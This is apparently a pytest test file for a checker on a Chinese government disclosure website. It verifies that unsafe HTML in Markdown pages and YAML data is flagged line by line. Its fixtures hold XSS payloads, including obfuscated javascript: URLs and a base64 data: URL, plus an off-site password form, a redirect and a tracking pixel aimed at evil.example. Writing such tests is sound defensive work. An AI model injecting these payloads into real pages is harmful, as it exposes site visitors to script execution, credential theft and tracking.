"""Dangerous raw HTML in content and data is an error on its own line; safe HTML passes."""

import pytest

from tests.conftest import SEED_POLICY, paired_site_files, run_gongkai

POLICY = "content/policies/2017/seed.md"
BODY_LINE = SEED_POLICY.count("\n") + 1  # first line after the seed policy's text

ADVICE = "网站不会发布能执行代码或嵌入其他网页的内容。"
CASES = {
    "script": (
        '<script>alert("x")</script>',
        f"unsafe-html-script 这一行有 <script> 脚本。{ADVICE}请删除整个 <script>…</script>。",
    ),
    "event handler": (
        '<img src="a.png" onerror="alert(1)">',
        f"unsafe-html-event 这一行的 HTML 标签带有事件属性“onerror=”，会执行脚本。{ADVICE}"
        "请删除“onerror=…”这一属性。",
    ),
    "javascript url in html": (
        '<a href="javascript:alert(1)">点击</a>',
        f"unsafe-html-url 这一行有“javascript:”链接，点击时会执行脚本。{ADVICE}"
        "请改为以 https:// 开头的网址，或链接到本网站的页面。",
    ),
    "javascript url in markdown": (
        "[点击](javascript:alert(1))",
        f"unsafe-html-url 这一行有“javascript:”链接，点击时会执行脚本。{ADVICE}"
        "请改为以 https:// 开头的网址，或链接到本网站的页面。",
    ),
    "javascript url spelt with entities": (
        "[点击](java&#115;cript&colon;alert(1))",
        f"unsafe-html-url 这一行有“javascript:”链接，点击时会执行脚本。{ADVICE}"
        "请改为以 https:// 开头的网址，或链接到本网站的页面。",
    ),
    "iframe": (
        '<iframe src="https://example.com/"></iframe>',
        f"unsafe-html-embed 这一行有 <iframe>，会把其他网页或插件嵌入本页。{ADVICE}请删除它，改为写一个普通链接。",
    ),
    "object": (
        '<object data="x.swf"></object>',
        f"unsafe-html-embed 这一行有 <object>，会把其他网页或插件嵌入本页。{ADVICE}请删除它，改为写一个普通链接。",
    ),
    "embed": (
        '<embed src="x.swf">',
        f"unsafe-html-embed 这一行有 <embed>，会把其他网页或插件嵌入本页。{ADVICE}请删除它，改为写一个普通链接。",
    ),
}


def _check(make_site, files):
    site = make_site(paired_site_files() | files)
    return run_gongkai(site, "check")


@pytest.mark.parametrize("case", CASES)
def test_dangerous_html_in_a_policy_is_an_error_on_its_line(make_site, case):
    snippet, message = CASES[case]
    code, out, _ = _check(make_site, {POLICY: SEED_POLICY + "\n" + snippet + "\n"})
    assert code == 1
    assert out.splitlines() == [f"{POLICY}:{BODY_LINE + 1}: {message}"]


def test_dangerous_html_in_a_data_value_names_the_yaml_line(make_site):
    fees = (
        "- 执收单位: 通辽市自然资源局\n"
        "  项目名称: 土地复垦费\n"
        "  类别: 行政事业性收费\n"
        "  收费标准: 按规定标准\n"
        "  收费依据: '<a href=\"javascript:alert(1)\">条例</a>'\n"
        "  资金管理方式: 缴入国库\n"
    )
    code, out, _ = _check(make_site, {"data/fees.yml": fees})
    assert code == 1
    assert out.splitlines() == [f"data/fees.yml:5: {CASES['javascript url in html'][1]}"]


def test_dangerous_html_in_a_column_page_is_reported(make_site):
    code, out, _ = _check(make_site, {"content/xxgk/zhinan.md": "# 指南\n\n<iframe src=x></iframe>\n"})
    assert code == 1
    assert out.splitlines() == [f"content/xxgk/zhinan.md:3: {CASES['iframe'][1]}"]


SAFE_BODIES = {
    "tables, line breaks and code examples": (
        "<table><tr><td>第一行<br>第二行</td></tr></table>\n\n"
        "链接：<https://www.gov.cn/>，[国务院](https://www.gov.cn/)。\n\n"
        "写法示例：`<script>` 不会被执行。\n\n"
        "```html\n<script>alert(1)</script>\n```\n"
    ),
    "what Markdown and the portal write": (
        "| 项目 | 标准 |\n|:--:|--:|\n| 甲 | 1 元 |\n\n"
        "<details><summary>附：说明</summary><p>第一条<br>第二条</p></details>\n\n"
        "![示意图](tu.png) [附件](fujian.pdf) [邮箱](mailto:a@example.gov.cn) [电话](tel:0475-0000000)\n\n"
        "1. 甲\n2. 乙\n\n> 引文\n\n---\n"
    ),
}


@pytest.mark.parametrize("case", SAFE_BODIES)
def test_safe_html_and_markdown_pass(make_site, case):
    code, out, _ = _check(make_site, {POLICY: SEED_POLICY + "\n" + SAFE_BODIES[case]})
    assert (code, out) == (0, "")


ALLOWED = "网站正文只允许文字、标题、列表、表格、链接和本网站的图片。"
JS_URL = CASES["javascript url in html"][1]
# Each construct that went through a line-by-line scan: (body lines, [(line offset, message)]).
ALLOWLIST_CASES = {
    "attribute on the next line": (
        "<details open\nontoggle=alert(1)>摘要</details>",
        [(0, CASES["event handler"][1].replace("onerror", "ontoggle"))],
    ),
    "base": (
        '<base href="https://evil.example/">',
        [(0, f"unsafe-html-tag 这一行有 <base>，会改变本页所有链接和文件的去向。{ALLOWED}请删除它。")],
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        [(0, f"unsafe-html-tag 这一行有 <meta>，会让页面自动跳转到其他网址或改变页面设置。{ALLOWED}请删除它。")],
    ),
    "reference definition on the next line": (
        "[办事指南]\n\n[办事指南]:\n    javascript:alert(1)",
        [(3, JS_URL)],
    ),
    "scheme split by a line break inside a tag": (
        '<a href="java\nscript:alert(1)">点击</a>',
        [(0, JS_URL)],
    ),
    "scheme after a control character": (
        "[点击](\x01javascript:alert(1))",
        [(0, JS_URL)],
    ),
    "data url": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">下载</a>',
        [(0, "unsafe-html-url 这一行的地址“data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==”以“data:”开头。"
             "网站只允许 https://、http://、mailto:、tel: 开头的地址和本网站的相对地址。请改正这一地址。")],
    ),
    "off-site form with a password field": (
        '<form action="https://evil.example/">\n<input type="password" name="p">\n</form>',
        [(0, "unsafe-html-form 这一行有 <form>，会让读者在本页填写内容（可能是密码）并发送出去。"
             f"{ALLOWED}请删除这个表单，需要读者办理的事项请链接到政务服务网站。"),
         (1, "unsafe-html-form 这一行有 <input>，会让读者在本页填写内容（可能是密码）并发送出去。"
             f"{ALLOWED}请删除这个表单，需要读者办理的事项请链接到政务服务网站。")],
    ),
    "off-site image in markdown": (
        "![统计图](https://evil.example/pixel.png)",
        [(0, "unsafe-html-remote 这一行的图片从其他网站加载（https://evil.example/pixel.png）。"
             "本网站的页面不从其他网站加载任何内容。请把图片文件放在本文件所在的文件夹，用相对路径引用。")],
    ),
    "style attribute": (
        '<p style="background:url(https://evil.example/x)">文字</p>',
        [(0, f"unsafe-html-attr 这一行的 <p> 带有属性“style”，网站正文不允许使用它。{ALLOWED}请删除这一属性。")],
    ),
    "off-site stylesheet": (
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        [(0, f"unsafe-html-tag 这一行有 <link>，会从其他地方加载样式或文件。{ALLOWED}请删除它。")],
    ),
}


@pytest.mark.parametrize("case", ALLOWLIST_CASES)
def test_what_the_allowlist_drops_is_reported_on_its_line(make_site, case):
    snippet, expected = ALLOWLIST_CASES[case]
    code, out, _ = _check(make_site, {POLICY: SEED_POLICY + "\n" + snippet + "\n"})
    assert code == 1
    assert out.splitlines() == [f"{POLICY}:{BODY_LINE + 1 + offset}: {message}" for offset, message in expected]

